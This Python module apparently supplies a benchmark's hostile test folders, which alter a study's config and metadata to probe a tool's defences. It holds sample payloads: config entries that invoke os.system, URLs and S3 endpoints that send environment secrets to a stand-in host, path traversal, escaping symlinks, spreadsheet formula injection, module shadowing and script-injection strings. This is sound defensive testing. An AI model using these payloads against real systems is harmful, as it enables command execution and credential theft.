"""Hostile folders: studies that try to run code, to read secrets, to call home, to write outside.

Each is made of a good study by changing what its folder says.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

from benchmarks.faults.study import RUN, STORE

#: An address at which nobody answers; the harness notices that it is asked for.
ADDRESS = "203.0.113.7:9"
SECRET = "${oc.env:STOLEN}"
Attack = Callable[[Path], None]


def _config(folder: Path, *changes: tuple[str, Any]) -> None:
    path = folder / RUN / "config.yaml"
    config = yaml.safe_load(path.read_text(encoding="utf-8"))
    for key, value in changes:
        *groups, last = key.split(".")
        node = config
        for group in groups:
            node = node.setdefault(group, {})
        node[last] = value
    path.write_text(yaml.safe_dump(config), encoding="utf-8")


def _attributes(folder: Path, **changes: Any) -> None:
    path = folder / STORE / "zarr.json"
    document = json.loads(path.read_text(encoding="utf-8"))
    document["attributes"].update(changes)
    path.write_text(json.dumps(document), encoding="utf-8")


def _scheduler(folder: Path) -> None:
    _config(folder, ("engine.kind", "dask"), ("engine.scheduler", f"tcp://{ADDRESS}"))
    shutil.rmtree(folder / STORE / "status" / "c")


def _cluster(folder: Path) -> None:
    _config(
        folder, ("engine.kind", "dask"), ("engine.cluster", "os.system"),
        ("engine.options", {"command": "touch /tmp/cubie_flow_was_here"}),
    )  # fmt: skip
    shutil.rmtree(folder / STORE / "status" / "c")


def _target(folder: Path) -> None:
    _config(folder, ("engine._target_", "os.system"), ("engine.command", "touch /tmp/made"))
    shutil.rmtree(folder / STORE / "status" / "c")


def _elsewhere(folder: Path, address: str, client: str = "fsspec", **options: Any) -> None:
    _config(folder, ("storage.options", options), ("storage.url", address))
    shutil.rmtree(folder / STORE)
    told = {"address": address, "client": client}
    (folder / RUN / "location.json").write_text(json.dumps(told), encoding="utf-8")


def _url(folder: Path) -> None:
    _elsewhere(folder, f"http://{ADDRESS}/results.zarr")


def _url_with_secret(folder: Path) -> None:
    _elsewhere(folder, f"http://{ADDRESS}/{SECRET}/results.zarr")


def _endpoint(folder: Path) -> None:
    _elsewhere(
        folder, "s3://bucket/results.zarr", endpoint_url=f"http://{ADDRESS}", key=SECRET,
        secret=SECRET,
    )  # fmt: skip


def _icechunk(folder: Path) -> None:
    _elsewhere(
        folder, "s3://bucket/results.icechunk", client="icechunk",
        endpoint_url=f"http://{ADDRESS}", access_key_id=SECRET, secret_access_key=SECRET,
    )  # fmt: skip


def _neighbour(folder: Path) -> None:
    """Point into another study of the user."""
    other = folder / "outputs" / "other"
    shutil.copytree(folder / RUN, other)
    _elsewhere(folder, str(other / "results.zarr"))


def _interpolations(folder: Path) -> None:
    _config(
        folder, ("study", SECRET), ("t_start", "${oc.env:STOLEN,0}"),
        ("batch.size", "${oc.env:STOLEN,40}"),
        ("output.save_every", "${oc.decode:${oc.env:STOLEN}}"),
    )  # fmt: skip
    _attributes(folder, study=SECRET, title=SECRET, config=SECRET)
    shutil.rmtree(folder / STORE / "status" / "c")


def _interpolated_attributes(folder: Path) -> None:
    text = (folder / RUN / "config.yaml").read_text(encoding="utf-8")
    config = yaml.safe_load(text)
    config["t_start"] = "${oc.env:STOLEN,0}"
    config["duration"] = "${oc.decode:${oc.env:STOLEN,2}}"
    _attributes(folder, config=yaml.safe_dump(config), algorithm=SECRET)


def _outside_name(folder: Path) -> None:
    _config(folder, ("study", "../../../escaped"))
    _attributes(folder, study="../../../escaped", title="../../../escaped")


def _link(name: str) -> Attack:
    def attack(folder: Path) -> None:
        victim = folder.parent / "victim.txt"
        victim.write_text("precious\n", encoding="utf-8")
        path = folder / RUN / name
        if path.exists():
            path.unlink()
        path.symlink_to(victim)

    return attack


def _linked_chunks(folder: Path) -> None:
    """Let new chunks be written through a link to a folder outside."""
    victim = folder.parent / "victim"
    victim.mkdir(exist_ok=True)
    for name in ("status", "x"):
        shutil.rmtree(folder / STORE / name / "c")
        (folder / STORE / name / "c").symlink_to(victim)


def _linked_store(folder: Path) -> None:
    victim = folder.parent / "victim_store"
    shutil.rmtree(victim, ignore_errors=True)
    shutil.move(folder / STORE, victim)
    shutil.rmtree(victim / "status" / "c")
    (folder / STORE).symlink_to(victim)


def _formulas(folder: Path) -> None:
    path = folder / STORE / "rho" / "zarr.json"
    document = json.loads(path.read_text(encoding="utf-8"))
    document["attributes"]["units"] = '=HYPERLINK("http://203.0.113.7")'
    document["attributes"]["long_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path.write_text(json.dumps(document), encoding="utf-8")
    _attributes(folder, title="=1+1", study="+1+1")


def _module(folder: Path) -> None:
    """Put modules with the names of libraries into the current folder and the study."""
    for place in (folder, folder / RUN):
        for name in ("antimony", "libsbml", "pyarrow", "h5netcdf", "s3fs", "optuna"):
            (place / f"{name}.py").write_text(
                "open('/tmp/cubie_flow_imported', 'w').close()\n", encoding="utf-8"
            )


def _script_in_text(folder: Path) -> None:
    _attributes(folder, title="<script>fetch('http://203.0.113.7')</script>",
                study="<img src=x onerror=alert(1)>")  # fmt: skip


ATTACKS: dict[str, Attack] = {
    "a scheduler in the config": _scheduler,
    "a cluster class in the config": _cluster,
    "a target in the config": _target,
    "results at a URL": _url,
    "a secret in the URL": _url_with_secret,
    "an endpoint for credentials": _endpoint,
    "an Icechunk endpoint": _icechunk,
    "the results of another study": _neighbour,
    "interpolations of the environment": _interpolations,
    "interpolations in attributes": _interpolated_attributes,
    "a name that leads outside": _outside_name,
    "the report is a link": _link("report.html"),
    "the picture is a link": _link("faults.png"),
    "the log is a link": _link("run.log"),
    "chunks are links": _linked_chunks,
    "the store is a link": _linked_store,
    "formulas for spreadsheets": _formulas,
    "modules next to the study": _module,
    "scripts in texts": _script_in_text,
}
